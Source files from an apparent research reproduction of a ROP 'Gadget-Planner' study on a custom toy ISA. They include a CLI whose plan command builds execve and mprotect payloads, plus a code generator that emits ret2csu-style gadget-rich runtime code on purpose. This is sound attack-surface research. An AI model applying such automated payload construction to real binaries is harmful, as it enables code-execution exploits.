        return sec.data[off : off + size]

    def symbol(self, name: str) -> int:
        try:
            return self.symbols[name]
        except KeyError:
            raise KeyError(f"no symbol named {name!r}") from None

    # -- serialization ----------------------------------------------------

    def to_bytes(self) -> bytes:
        """Serialize to the on-disk NFLF representation."""
        out = bytearray(MAGIC)
        out += struct.pack("<QII", self.entry, len(self.sections), len(self.symbols))
        for sec in self.sections:
            name = sec.name.encode()
            flags = (1 if sec.writable else 0) | (2 if sec.executable else 0)
            out += struct.pack("<HQIB", len(name), sec.addr, len(sec.data), flags)
            out += name
            out += sec.data
        for name, addr in sorted(self.symbols.items()):
            encoded = name.encode()
            out += struct.pack("<HQ", len(encoded), addr)
            out += encoded
        return bytes(out)

    @classmethod
    def from_bytes(cls, blob: bytes) -> "BinaryImage":
        """Parse an NFLF image from bytes."""
        if blob[: len(MAGIC)] != MAGIC:
            raise BinaryFormatError("bad magic")
        off = len(MAGIC)
        try:
            entry, n_sections, n_symbols = struct.unpack_from("<QII", blob, off)
            off += 16
            sections: List[Section] = []
            for _ in range(n_sections):
                name_len, addr, size, flags = struct.unpack_from("<HQIB", blob, off)
                off += 15
                name = blob[off : off + name_len].decode()
                off += name_len
                data = blob[off : off + size]
                if len(data) != size:
                    raise BinaryFormatError("truncated section data")
                off += size
                sections.append(
                    Section(
                        name=name,
                        addr=addr,
                        data=data,
                        writable=bool(flags & 1),
                        executable=bool(flags & 2),
                    )
                )
            symbols: Dict[str, int] = {}
            for _ in range(n_symbols):
                name_len, addr = struct.unpack_from("<HQ", blob, off)
                off += 10
                symbols[blob[off : off + name_len].decode()] = addr
                off += name_len
        except struct.error as exc:
            raise BinaryFormatError(f"truncated image: {exc}") from None
        return cls(sections=sections, symbols=symbols, entry=entry)


def make_image(
    text: bytes,
    data: bytes = b"",
    entry: Optional[int] = None,
    symbols: Optional[Dict[str, int]] = None,
    text_base: int = TEXT_BASE,
    data_base: int = DATA_BASE,
) -> BinaryImage:
    """Convenience constructor used by tests and the linker."""
    sections = [Section(".text", text_base, text, writable=False, executable=True)]
    data_with_scratch = data + b"\x00" * SCRATCH_SIZE
    sections.append(Section(".data", data_base, data_with_scratch, writable=True, executable=False))
    image = BinaryImage(
        sections=sections,
        symbols=dict(symbols or {}),
        entry=entry if entry is not None else text_base,
    )
    image.symbols.setdefault("__scratch", data_base + len(data))
    return image
