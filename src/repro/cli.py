"""Command-line interface: the tools a release would ship.

::

    nfl cc prog.mc -o prog.nflf [--obfuscate llvm_obf] [--seed 7]
    nfl run prog.nflf [--step-limit N]
    nfl disasm prog.nflf [--start ADDR] [--count N]
    nfl gadgets prog.nflf [--types]
    nfl extract prog.nflf [--jobs N] [--cache-dir PATH] [--no-cache] [--trace FILE]
    nfl census prog.nflf [--static] [--semantic] [--defenses [--policies P1,P2]] [--jobs N]
    nfl plan prog.nflf [--goal execve|mprotect|mmap|all] [--defense POLICY] [--max-plans N]
    nfl fuzz [--seed N] [--iters N] [--oracle O1,O2] [--replay-corpus]
    nfl trace trace.jsonl
    nfl study prog.mc [--configs none,llvm_obf,...]
    nfl lint prog.mc [--sources optarg,recv,...]

Every subcommand works on NFLF images produced by ``nfl cc`` (or by
:func:`repro.obfuscation.build_program` programmatically).
"""

from __future__ import annotations

import argparse
import sys
from contextlib import contextmanager
from pathlib import Path
from typing import Iterator, List, Optional

from .binfmt.image import BinaryImage
from .emulator.cpu import run_image
from .gadgets.classify import count_by_type, scan_syntactic_gadgets, semantic_census
from .gadgets.extract import ExtractionConfig, ExtractionStats
from .gadgets.subsumption import SubsumptionStats
from .obs import (
    TraceSchemaError,
    Tracer,
    format_trace_summary,
    metrics,
    reset_metrics,
    tracing,
)
from .pipeline import ResultCache, run_pipeline
from .staticanalysis import (
    DEFAULT_SOURCES,
    check_module_source,
    format_findings,
    format_metrics,
)
from .isa.disassembler import disassemble_lines
from .obfuscation.pipeline import CONFIGS, build_program
from .planner import (
    GadgetPlanner,
    PlannerConfig,
    execve_goal,
    mmap_goal,
    mprotect_goal,
    standard_goals,
)


def _load_image(path: str) -> BinaryImage:
    return BinaryImage.from_bytes(Path(path).read_bytes())


def cmd_cc(args: argparse.Namespace) -> int:
    source = Path(args.source).read_text()
    config = CONFIGS[args.obfuscate]
    linked = build_program(source, config, seed=args.seed)
    out = args.output or (Path(args.source).stem + ".nflf")
    Path(out).write_bytes(linked.image.to_bytes())
    print(f"wrote {out}: {len(linked.image.text.data)} bytes of text, config={config.name}")
    return 0


def cmd_run(args: argparse.Namespace) -> int:
    image = _load_image(args.binary)
    status, stdout = run_image(image, step_limit=args.step_limit)
    sys.stdout.write(stdout.decode(errors="replace"))
    return status


def cmd_disasm(args: argparse.Namespace) -> int:
    image = _load_image(args.binary)
    start = int(args.start, 0) if args.start else image.text.addr
    offset = start - image.text.addr
    count = 0
    for addr, text in disassemble_lines(image.text.data[offset:], base_addr=start):
        print(f"{addr:#010x}:  {text}")
        count += 1
        if args.count and count >= args.count:
            break
    return 0


def cmd_gadgets(args: argparse.Namespace) -> int:
    image = _load_image(args.binary)
    gadgets = scan_syntactic_gadgets(image, max_insns=args.max_insns)
    print(f"{len(gadgets)} syntactic gadgets")
    if args.types:
        for kind, count in sorted(count_by_type(gadgets).items(), key=lambda kv: -kv[1]):
            print(f"  {kind.value.upper():<5} {count}")
    if args.list:
        for g in gadgets[: args.list]:
            print(f"  {g.addr:#x}: " + "; ".join(str(i) for i in g.insns))
    return 0


@contextmanager
def _maybe_traced(args: argparse.Namespace) -> Iterator[Optional[Tracer]]:
    """Record the command body under a tracer when ``--trace FILE`` was
    given, writing the JSONL export (spans + final metrics snapshot) on
    the way out.  Without the flag this is a no-op."""
    trace_path = getattr(args, "trace", None)
    if not trace_path:
        yield None
        return
    reset_metrics()
    tracer = Tracer()
    with tracing(tracer):
        yield tracer
    spans = tracer.write_jsonl(trace_path, metrics=metrics().to_dict())
    print(f"trace: {spans} spans written to {trace_path}", file=sys.stderr)


def _make_cache(args: argparse.Namespace) -> Optional[ResultCache]:
    """The ResultCache the pipeline flags describe (None = --no-cache)."""
    if getattr(args, "no_cache", False):
        return None
    if getattr(args, "cache_dir", None):
        return ResultCache(root=Path(args.cache_dir))
    return ResultCache()


def _pipeline_stats_line(es: ExtractionStats, ss: Optional[SubsumptionStats]) -> str:
    parts = [
        f"jobs={es.jobs}",
        f"symex={es.symex_invocations}",
        f"culled={es.semantically_culled}/{es.candidates}",
        "cache=" + ("hit" if es.cache_hit else "miss" if es.cache_misses else "off"),
        f"extract {es.wall_total:.2f}s",
    ]
    if ss is not None:
        parts += [
            f"solver_checks={ss.solver_checks}",
            f"memo={ss.memo_hits}/{ss.implication_queries}",
            f"winnow {ss.wall_total:.2f}s",
        ]
    return "  ".join(parts)


def cmd_extract(args: argparse.Namespace) -> int:
    image = _load_image(args.binary)
    config = ExtractionConfig(max_insns=args.max_insns, max_paths=args.max_paths)
    es, ss = ExtractionStats(), SubsumptionStats()
    with _maybe_traced(args):
        records, survivors = run_pipeline(
            image,
            config,
            jobs=args.jobs,
            cache=_make_cache(args),
            winnow=not args.no_winnow,
            extraction_stats=es,
            winnow_stats=ss,
        )
    if survivors is None:
        print(f"{len(records)} gadgets extracted")
        print(_pipeline_stats_line(es, None))
        shown = records
    else:
        print(f"{len(records)} gadgets extracted, {len(survivors)} after subsumption")
        print(_pipeline_stats_line(es, ss))
        shown = survivors
    for record in shown[: args.list]:
        print(f"  {record}")
    return 0


def cmd_census(args: argparse.Namespace) -> int:
    image = _load_image(args.binary)
    if args.defenses:
        from .defenses import defense_census, format_defense_census

        policies = args.policies.split(",") if args.policies else None
        config = ExtractionConfig(max_insns=args.max_insns)
        with _maybe_traced(args):
            doc = defense_census(
                image,
                policies,
                extraction=config,
                jobs=args.jobs or 1,
                cache=_make_cache(args),
            )
        print(format_defense_census(doc, title=args.binary))
        return 0
    gadgets = scan_syntactic_gadgets(image, max_insns=args.max_insns)
    print(f"{len(gadgets)} syntactic gadgets")
    if args.static:
        metrics = semantic_census(image, max_insns=args.max_insns)
        print(format_metrics(metrics))
    if args.semantic:
        config = ExtractionConfig(max_insns=args.max_insns)
        es, ss = ExtractionStats(), SubsumptionStats()
        with _maybe_traced(args):
            records, survivors = run_pipeline(
                image,
                config,
                jobs=args.jobs,
                cache=_make_cache(args),
                extraction_stats=es,
                winnow_stats=ss,
            )
        print(f"{len(records)} semantic gadgets, {len(survivors)} after subsumption")
        print(_pipeline_stats_line(es, ss))
    return 0


def cmd_lint(args: argparse.Namespace) -> int:
    source = Path(args.source).read_text()
    sources = tuple(args.sources.split(",")) if args.sources else DEFAULT_SOURCES
    findings = check_module_source(source, sources=sources)
    print(format_findings(findings))
    return 1 if findings else 0


def cmd_plan(args: argparse.Namespace) -> int:
    image = _load_image(args.binary)
    if args.goal == "all":
        goals = standard_goals(image)
    else:
        goals = {
            "execve": [execve_goal()],
            "mprotect": [mprotect_goal(addr=image.data.addr & ~0xFFF, length=7)],
            "mmap": [mmap_goal(length=7)],
        }[args.goal]
    defense = None
    if args.defense:
        from .defenses import parse_policy

        defense = parse_policy(args.defense)
    planner = GadgetPlanner(
        image,
        extraction=ExtractionConfig(max_insns=args.max_insns),
        planner=PlannerConfig(max_plans=args.max_plans),
        defense=defense,
    )
    with _maybe_traced(args):
        report = planner.run(goals=goals)
    t = report.timings
    print(
        f"gadgets: {report.gadgets_total} extracted, "
        f"{report.gadgets_after_subsumption} after subsumption "
        f"(extraction {t.extraction:.1f}s, subsumption {t.subsumption:.1f}s, "
        f"planning {t.planning:.1f}s)"
    )
    if defense is not None:
        print(
            f"defense: {defense.describe()} — "
            f"{report.gadgets_surviving} gadgets survive, "
            f"{report.blocked_by_defense} payload(s) blocked, "
            f"{report.leaks_used} leak(s) used"
        )
    print(f"validated payloads: {report.per_goal}")
    for payload in report.payloads:
        print()
        print(payload.describe())
    return 0 if report.total_payloads else 1


def cmd_trace(args: argparse.Namespace) -> int:
    try:
        lines = Path(args.trace_file).read_text().splitlines()
        print(format_trace_summary(lines))
    except OSError as exc:
        print(f"cannot read trace: {exc}", file=sys.stderr)
        return 1
    except TraceSchemaError as exc:
        print(f"invalid trace: {exc}", file=sys.stderr)
        return 1
    return 0


def cmd_study(args: argparse.Namespace) -> int:
    source = Path(args.source).read_text()
    configs = args.configs.split(",")
    header = f"{'config':<20}{'text':>8}{'gadgets':>9}{'payloads':>10}"
    print(header)
    print("-" * len(header))
    for name in configs:
        linked = build_program(source, CONFIGS[name], seed=args.seed)
        gadget_count = len(scan_syntactic_gadgets(linked.image))
        planner = GadgetPlanner(linked.image, planner=PlannerConfig(max_plans=args.max_plans))
        payloads = planner.run().total_payloads
        print(f"{name:<20}{len(linked.image.text.data):>8}{gadget_count:>9}{payloads:>10}")
    return 0


def cmd_fuzz(args: argparse.Namespace) -> int:
    from .fuzz import ORACLE_NAMES, find_repo_corpus, load_corpus, replay_corpus, run_fuzz

    oracles = None
    if args.oracle:
        oracles = [name.strip() for name in args.oracle.split(",") if name.strip()]
        unknown = set(oracles) - set(ORACLE_NAMES)
        if unknown:
            print(f"unknown oracle(s): {', '.join(sorted(unknown))}", file=sys.stderr)
            print(f"available: {', '.join(ORACLE_NAMES)}", file=sys.stderr)
            return 2
    corpus_dir = None
    if not args.no_bank:
        corpus_dir = Path(args.corpus) if args.corpus else find_repo_corpus()
    with _maybe_traced(args):
        if args.replay_corpus:
            target = Path(args.corpus) if args.corpus else find_repo_corpus()
            if target is None:
                print("no corpus directory found (pass --corpus)", file=sys.stderr)
                return 2
            cases = load_corpus(target)
            failures = replay_corpus(target)
            for message in failures:
                print(f"  FAIL {message}")
            status = "OK" if not failures else "FAILURES"
            print(f"corpus replay: {status} ({len(cases)} case(s), {len(failures)} failure(s))")
            return 1 if failures else 0
        report = run_fuzz(
            seed=args.seed,
            iters=args.iters,
            oracles=oracles,
            corpus_dir=corpus_dir,
            shrink=not args.no_shrink,
        )
    print(report.summary())
    return 1 if report.failures else 0


def _add_pipeline_flags(p: argparse.ArgumentParser) -> None:
    p.add_argument(
        "--jobs",
        type=int,
        default=None,
        metavar="N",
        help="worker processes (default: os.cpu_count())",
    )
    p.add_argument(
        "--cache-dir",
        metavar="PATH",
        help="result cache root (default: ~/.cache/nfl or $NFL_CACHE_DIR)",
    )
    p.add_argument("--no-cache", action="store_true", help="disable the persistent result cache")
    _add_trace_flag(p)


def _add_trace_flag(p: argparse.ArgumentParser) -> None:
    p.add_argument(
        "--trace",
        metavar="FILE",
        help="write a span/metrics trace (JSONL; inspect with `nfl trace FILE`)",
    )


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="nfl",
        description="Gadget-Planner toolchain (No Free Lunch, DSN'23 reproduction)",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    p = sub.add_parser("cc", help="compile MC source to an NFLF binary")
    p.add_argument("source")
    p.add_argument("-o", "--output")
    p.add_argument("--obfuscate", default="none", choices=sorted(CONFIGS))
    p.add_argument("--seed", type=int, default=0)
    p.set_defaults(func=cmd_cc)

    p = sub.add_parser("run", help="execute an NFLF binary in the emulator")
    p.add_argument("binary")
    p.add_argument("--step-limit", type=int, default=50_000_000)
    p.set_defaults(func=cmd_run)

    p = sub.add_parser("disasm", help="disassemble the text section")
    p.add_argument("binary")
    p.add_argument("--start")
    p.add_argument("--count", type=int, default=0)
    p.set_defaults(func=cmd_disasm)

    p = sub.add_parser("gadgets", help="syntactic gadget census (Fig. 1 view)")
    p.add_argument("binary")
    p.add_argument("--types", action="store_true", help="break down by Table I type")
    p.add_argument("--list", type=int, default=0, help="print the first N gadgets")
    p.add_argument("--max-insns", type=int, default=8)
    p.set_defaults(func=cmd_gadgets)

    p = sub.add_parser("extract", help="semantic gadget extraction (parallel + cached)")
    p.add_argument("binary")
    p.add_argument("--max-insns", type=int, default=12)
    p.add_argument("--max-paths", type=int, default=6)
    p.add_argument("--no-winnow", action="store_true", help="skip subsumption winnowing")
    p.add_argument("--list", type=int, default=0, help="print the first N gadgets")
    _add_pipeline_flags(p)
    p.set_defaults(func=cmd_extract)

    p = sub.add_parser("census", help="gadget-set quality census (static dataflow)")
    p.add_argument("binary")
    p.add_argument("--static", action="store_true", help="add semantic window metrics")
    p.add_argument("--semantic", action="store_true", help="run the full extraction pipeline")
    p.add_argument(
        "--defenses",
        action="store_true",
        help="surviving attack surface per mitigation policy",
    )
    p.add_argument(
        "--policies",
        metavar="P1,P2,...",
        help="policy names for --defenses (e.g. coarse_cfi,wx or coarse_cfi+wx)",
    )
    p.add_argument("--max-insns", type=int, default=8)
    _add_pipeline_flags(p)
    p.set_defaults(func=cmd_census)

    p = sub.add_parser("lint", help="static overflow checker for MC source")
    p.add_argument("source")
    p.add_argument("--sources", help="comma-separated attacker-input name prefixes")
    p.set_defaults(func=cmd_lint)

    p = sub.add_parser("plan", help="run Gadget-Planner against a binary")
    p.add_argument("binary")
    p.add_argument("--goal", default="all", choices=["all", "execve", "mprotect", "mmap"])
    p.add_argument("--max-plans", type=int, default=8)
    p.add_argument("--max-insns", type=int, default=12)
    p.add_argument(
        "--defense",
        metavar="POLICY",
        help="plan against a mitigation policy (name or A+B combo, see `repro.defenses`)",
    )
    _add_trace_flag(p)
    p.set_defaults(func=cmd_plan)

    p = sub.add_parser("fuzz", help="deterministic differential fuzzing across layers")
    p.add_argument("--seed", type=int, default=0)
    p.add_argument("--iters", type=int, default=100)
    p.add_argument(
        "--oracle",
        metavar="O1,O2,...",
        help="restrict to a comma-separated oracle subset (default: all, on their schedules)",
    )
    p.add_argument(
        "--corpus",
        metavar="DIR",
        help="regression-corpus directory (default: the repo's tests/corpus when found)",
    )
    p.add_argument(
        "--no-bank", action="store_true", help="do not write shrunken reproducers to the corpus"
    )
    p.add_argument("--no-shrink", action="store_true", help="skip auto-shrinking failures")
    p.add_argument(
        "--replay-corpus", action="store_true", help="replay every banked case and exit"
    )
    _add_trace_flag(p)
    p.set_defaults(func=cmd_fuzz)

    p = sub.add_parser("trace", help="summarize a JSONL trace written by --trace")
    p.add_argument("trace_file")
    p.set_defaults(func=cmd_trace)

    p = sub.add_parser("study", help="per-config attack-surface study of one program")
    p.add_argument("source")
    p.add_argument("--configs", default="none,llvm_obf,tigress")
    p.add_argument("--seed", type=int, default=7)
    p.add_argument("--max-plans", type=int, default=6)
    p.set_defaults(func=cmd_study)
    return parser


def main(argv: Optional[List[str]] = None) -> int:
    args = build_parser().parse_args(argv)
    return args.func(args)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
