"""The MC compiler: lowering, code generation, linking."""

from typing import Optional, Sequence

from ..lang import parse
from .codegen import CodegenError, FunctionCodegen, fn_label, generate_module_asm
from .ir import (
    AddrOfGlobal,
    AddrOfLocal,
    BinOp,
    Block,
    Branch,
    CallInstr,
    CmpSet,
    Const,
    Copy,
    IRFunction,
    IRInstr,
    IRModule,
    Jump,
    Load,
    Ret,
    Store,
    Temp,
    Terminator,
    UnOp,
    Value,
    negate_cmp,
    swap_cmp,
)
from .lowering import BUILTINS, LoweringError, lower_program
from .link import LinkedProgram, layout_data, link_module


def compile_source(source: str, passes: Optional[Sequence] = None) -> LinkedProgram:
    """Compile MC source text to a linked executable.

    ``passes`` is an optional sequence of obfuscation passes (objects
    with ``run(module) -> module``, see :mod:`repro.obfuscation`)
    applied to the IR between lowering and code generation — the same
    pipeline position Obfuscator-LLVM uses.
    """
    module = lower_program(parse(source))
    for obf_pass in passes or ():
        module = obf_pass.run(module)
    return link_module(module)


__all__ = [
    "AddrOfGlobal",
    "AddrOfLocal",
    "BUILTINS",
    "BinOp",
    "Block",
    "Branch",
    "CallInstr",
    "CmpSet",
    "CodegenError",
    "Const",
    "Copy",
    "FunctionCodegen",
    "IRFunction",
    "IRInstr",
    "IRModule",
    "Jump",
    "LinkedProgram",
    "Load",
    "LoweringError",
    "Ret",
    "Store",
    "Temp",
    "Terminator",
    "UnOp",
    "Value",
    "compile_source",
    "fn_label",
    "generate_module_asm",
    "layout_data",
    "link_module",
    "lower_program",
    "negate_cmp",
    "swap_cmp",
]
