"""Code generation: IR → NFL assembly text.

The generator is deliberately an -O0 style one: every temporary lives
in a stack slot, instructions load operands into scratch registers,
compute, and store back.  This mirrors how the paper's benchmarks are
built (unoptimized C via the obfuscators' default pipelines) and keeps
the machine code rich in the memory/stack idioms gadget tools scan for.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List

from ..isa.registers import ARG_REGS
from .ir import (
    AddrOfGlobal,
    AddrOfLocal,
    BinOp,
    Block,
    Branch,
    CallInstr,
    CmpSet,
    Const,
    Copy,
    IRFunction,
    IRModule,
    Jump,
    Load,
    Ret,
    Store,
    Temp,
    UnOp,
    Value,
)

_CMP_TO_JCC = {
    "eq": "je",
    "ne": "jne",
    "ult": "jb",
    "ule": "jbe",
    "ugt": "ja",
    "uge": "jae",
    "slt": "jl",
    "sle": "jle",
    "sgt": "jg",
    "sge": "jge",
}

_SIMPLE_BINOPS = {
    "add": "add",
    "sub": "sub",
    "and": "and",
    "or": "or",
    "xor": "xor",
    "mul": "mul",
    "udiv": "udiv",
    "umod": "umod",
}

_SHIFT_OPS = {"shl", "shr", "sar"}


class CodegenError(ValueError):
    pass


def fn_label(name: str) -> str:
    return f"fn_{name}"


@dataclass
class FunctionCodegen:
    fn: IRFunction
    lines: List[str] = field(default_factory=list)
    slots: Dict[str, int] = field(default_factory=dict)  # temp name → rbp offset
    array_offsets: Dict[str, int] = field(default_factory=dict)
    frame_size: int = 0
    _label_counter: int = 0

    def _local_label(self, hint: str) -> str:
        self._label_counter += 1
        return f".L_{self.fn.name}_{hint}_{self._label_counter}"

    def _block_label(self, block_label: str) -> str:
        return f".L_{self.fn.name}__{block_label}"

    def emit(self, text: str) -> None:
        self.lines.append(f"    {text}")

    def emit_label(self, label: str) -> None:
        self.lines.append(f"{label}:")

    # -- frame layout -----------------------------------------------------

    def _layout_frame(self) -> None:
        offset = 0
        for temp in self.fn.temps():
            offset += 8
            self.slots[temp.name] = offset
        for name, size in self.fn.local_arrays.items():
            aligned = (size + 7) & ~7
            offset += aligned
            self.array_offsets[name] = offset
        self.frame_size = (offset + 15) & ~15  # keep rsp 16-ish aligned

    def _slot(self, temp: Temp) -> int:
        try:
            return self.slots[temp.name]
        except KeyError:  # pragma: no cover - temps() collects everything
            raise CodegenError(f"temp {temp} has no slot")

    # -- operand helpers -----------------------------------------------------

    def _load_into(self, reg: str, value: Value) -> None:
        if isinstance(value, Const):
            self.emit(f"mov {reg}, {value.value & ((1 << 64) - 1)}")
        else:
            self.emit(f"mov {reg}, [rbp-{self._slot(value)}]")

    def _store_from(self, reg: str, temp: Temp) -> None:
        self.emit(f"mov [rbp-{self._slot(temp)}], {reg}")

    # -- main ----------------------------------------------------------------

    def generate(self) -> List[str]:
        self._layout_frame()
        self.emit_label(fn_label(self.fn.name))
        self.emit("push rbp")
        self.emit("mov rbp, rsp")
        if self.frame_size:
            self.emit(f"sub rsp, {self.frame_size}")
        for i, param in enumerate(self.fn.params):
            if i >= len(ARG_REGS):
                raise CodegenError("more than 6 parameters are unsupported")
            self.emit(f"mov [rbp-{self.slots[param]}], {ARG_REGS[i]}")
        for block in self.fn.block_order():
            self._gen_block(block)
        self.emit_label(self._epilogue_label())
        # `add rsp, N; pop rbp; ret` rather than `leave; ret`: the same
        # frame teardown real compilers emit, and — as on x86 — the form
        # whose tail keeps unaligned decodes usable as gadgets (leave's
        # rsp←rbp pivot makes every window crossing it stack-unsound).
        if self.frame_size:
            self.emit(f"add rsp, {self.frame_size}")
        self.emit("pop rbp")
        self.emit("ret")
        return self.lines

    def _epilogue_label(self) -> str:
        return f".L_{self.fn.name}__epilogue"

    def _gen_block(self, block: Block) -> None:
        self.emit_label(self._block_label(block.label))
        for instr in block.instrs:
            self._gen_instr(instr)
        self._gen_terminator(block)

    # -- instructions ------------------------------------------------------------

    def _gen_instr(self, instr) -> None:
        if isinstance(instr, Copy):
            self._load_into("rax", instr.src)
            self._store_from("rax", instr.dst)
        elif isinstance(instr, BinOp):
            self._gen_binop(instr)
        elif isinstance(instr, UnOp):
            self._load_into("rax", instr.src)
            self.emit("not rax" if instr.op == "not" else "neg rax")
            self._store_from("rax", instr.dst)
        elif isinstance(instr, CmpSet):
            self._load_into("rax", instr.lhs)
            self._load_into("rcx", instr.rhs)
            done = self._local_label("setcc")
            self.emit("cmp rax, rcx")
            self.emit("mov rax, 1")
            self.emit(f"{_CMP_TO_JCC[instr.op]} {done}")
            self.emit("mov rax, 0")
            self.emit_label(done)
            self._store_from("rax", instr.dst)
        elif isinstance(instr, Load):
            self._load_into("rax", instr.addr)
            if instr.width == 8:
                self.emit("mov rcx, [rax]")
            else:
                self.emit("movzxb rcx, [rax]")
            self._store_from("rcx", instr.dst)
        elif isinstance(instr, Store):
            self._load_into("rax", instr.addr)
            self._load_into("rcx", instr.src)
            if instr.width == 8:
                self.emit("mov [rax], rcx")
            else:
                self.emit("movb [rax], rcx")
        elif isinstance(instr, AddrOfLocal):
            offset = self.array_offsets[instr.local]
            self.emit(f"lea rax, [rbp-{offset}]")
            self._store_from("rax", instr.dst)
        elif isinstance(instr, AddrOfGlobal):
            self.emit(f"mov rax, {instr.symbol}")
            self._store_from("rax", instr.dst)
        elif isinstance(instr, CallInstr):
            for i, arg in enumerate(instr.args):
                self._load_into(str(ARG_REGS[i]), arg)
            self.emit(f"call {fn_label(instr.func)}")
            if instr.dst is not None:
                self._store_from("rax", instr.dst)
        else:  # pragma: no cover - exhaustive
            raise AssertionError(f"unhandled instr {instr!r}")

    def _gen_binop(self, instr: BinOp) -> None:
        if instr.op in _SHIFT_OPS:
            self._gen_shift(instr)
            return
        mnemonic = _SIMPLE_BINOPS.get(instr.op)
        if mnemonic is None:
            raise CodegenError(f"unknown binop {instr.op!r}")
        self._load_into("rax", instr.lhs)
        self._load_into("rcx", instr.rhs)
        self.emit(f"{mnemonic} rax, rcx")
        self._store_from("rax", instr.dst)

    def _gen_shift(self, instr: BinOp) -> None:
        mnemonic = instr.op
        if isinstance(instr.rhs, Const):
            self._load_into("rax", instr.lhs)
            self.emit(f"{mnemonic} rax, {instr.rhs.value & 0x3F}")
            self._store_from("rax", instr.dst)
            return
        # Variable shift: the ISA only has immediate shifts, so emit a
        # count-down loop (one more realistic source of branches).
        head = self._local_label("shift_head")
        done = self._local_label("shift_done")
        self._load_into("rax", instr.lhs)
        self._load_into("rcx", instr.rhs)
        self.emit("and rcx, 63")
        self.emit_label(head)
        self.emit("cmp rcx, 0")
        self.emit(f"je {done}")
        self.emit(f"{mnemonic} rax, 1")
        self.emit("dec rcx")
        self.emit(f"jmp {head}")
        self.emit_label(done)
        self._store_from("rax", instr.dst)

    def _gen_terminator(self, block: Block) -> None:
        t = block.terminator
        if isinstance(t, Jump):
            self.emit(f"jmp {self._block_label(t.target)}")
        elif isinstance(t, Branch):
            self._load_into("rax", t.lhs)
            self._load_into("rcx", t.rhs)
            self.emit("cmp rax, rcx")
            self.emit(f"{_CMP_TO_JCC[t.op]} {self._block_label(t.then)}")
            self.emit(f"jmp {self._block_label(t.els)}")
        elif isinstance(t, Ret):
            if t.value is not None:
                self._load_into("rax", t.value)
            else:
                self.emit("mov rax, 0")
            self.emit(f"jmp {self._epilogue_label()}")
        else:  # pragma: no cover
            raise AssertionError(f"block {block.label} missing terminator")


RUNTIME_ASM = """
_start:
    call __libc_csu_init
    call fn_main
    mov rdi, rax
    mov rax, 60
    syscall
    hlt

; glibc-shaped csu init: walk __init_array (entry 0 holds the count)
; and call each initializer with (argc, argv, envp)-style arguments.
; The benchmark programs register no initializers, but the code runs on
; every start — it is real code, with the classic register-restore tail
; that makes ret2csu a staple of real-world exploitation.
__libc_csu_init:
    push rbx
    push rbp
    push r12
    push r13
    push r14
    push r15
    mov r12, 0              ; argc
    mov r13, 0              ; argv
    mov r14, 0              ; envp
    mov rbx, __init_array
    mov rbp, [rbx]          ; entry count
    shl rbp, 3
    add rbp, rbx            ; rbp = address of the last entry
    add rbx, 8              ; first entry (slot 0 holds the count)
.csu_loop:
    cmp rbx, rbp
    ja .csu_done
    mov r15, [rbx]          ; initializer pointer
    mov rdx, r14
    mov rsi, r13
    mov rdi, r12
    call r15                ; the classic ret2csu dispatch shape
    add rbx, 8
    jmp .csu_loop
.csu_done:
    pop r15
    pop r14
    pop r13
    pop r12
    pop rbp
    pop rbx
    ret

; syscall(nr, a, b, c): the libc raw syscall wrapper, with glibc's
; exact argument shuffle (the 4th argument rides in rcx at the call
; boundary and must move to rdx's successor position).
fn_syscall:
    mov rax, rdi
    mov rdi, rsi
    mov rsi, rdx
    mov rdx, rcx
    syscall
    ret

; print(value): unsigned decimal + newline to stdout.
fn_print:
    push rbp
    mov rbp, rsp
    sub rsp, 48
    mov rax, rdi          ; value
    lea rsi, [rbp-48]     ; buffer cursor grows backwards from end
    add rsi, 47
    mov rcx, 10
    movb [rsi], rcx       ; newline (10) at the end
    mov rdx, 1            ; length
.print_loop:
    mov rbx, rax
    umod rbx, rcx         ; digit = value % 10
    add rbx, 48
    sub rsi, 1
    movb [rsi], rbx
    add rdx, 1
    udiv rax, rcx
    cmp rax, 0
    jne .print_loop
    mov rax, 1            ; write
    mov rdi, 1
    syscall
    add rsp, 48
    pop rbp
    ret

; print_str(ptr): NUL-terminated string to stdout.
fn_print_str:
    push rbp
    mov rbp, rsp
    mov rsi, rdi
    mov rdx, 0
.strlen_loop:
    mov rax, rsi
    add rax, rdx
    movzxb rcx, [rax]
    cmp rcx, 0
    je .strlen_done
    add rdx, 1
    jmp .strlen_loop
.strlen_done:
    mov rax, 1
    mov rdi, 1
    syscall
    pop rbp
    ret

; print_char(c): one byte to stdout.
fn_print_char:
    push rbp
    mov rbp, rsp
    sub rsp, 16
    movb [rbp-8], rdi
    mov rax, 1
    mov rdi, 1
    lea rsi, [rbp-8]
    mov rdx, 1
    syscall
    add rsp, 16
    pop rbp
    ret

; exit(code)
fn_exit:
    mov rax, 60
    syscall
    hlt
"""


def generate_module_asm(module: IRModule) -> str:
    """Generate the complete .text assembly for a module (plus runtime)."""
    chunks: List[str] = [RUNTIME_ASM]
    for fn in module.functions.values():
        chunks.append("\n".join(FunctionCodegen(fn).generate()))
    return "\n".join(chunks)
