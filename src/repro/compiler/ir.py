"""Three-address intermediate representation.

The IR is a control-flow graph of basic blocks over virtual temporaries.
It is the layer every obfuscation pass transforms: instruction
substitution rewrites :class:`BinOp` instructions, bogus control flow
and flattening rewrite the block graph, encode-data rewrites constants,
and virtualization replaces a function's body wholesale with an
interpreter loop.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple, Union


# ---------------------------------------------------------------------------
# Values
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Temp:
    """A virtual register."""

    name: str

    def __str__(self) -> str:
        return f"%{self.name}"


@dataclass(frozen=True)
class Const:
    """A 64-bit constant."""

    value: int

    def __str__(self) -> str:
        return f"{self.value:#x}" if abs(self.value) > 9 else str(self.value)


Value = Union[Temp, Const]


# ---------------------------------------------------------------------------
# Instructions
# ---------------------------------------------------------------------------

BIN_OPS = ("add", "sub", "mul", "udiv", "umod", "and", "or", "xor", "shl", "shr", "sar")
UN_OPS = ("not", "neg")
CMP_OPS = ("eq", "ne", "ult", "ule", "ugt", "uge", "slt", "sle", "sgt", "sge")


@dataclass(frozen=True)
class IRInstr:
    pass


@dataclass(frozen=True)
class BinOp(IRInstr):
    dst: Temp
    op: str
    lhs: Value
    rhs: Value

    def __str__(self) -> str:
        return f"{self.dst} = {self.op} {self.lhs}, {self.rhs}"


@dataclass(frozen=True)
class UnOp(IRInstr):
    dst: Temp
    op: str
    src: Value

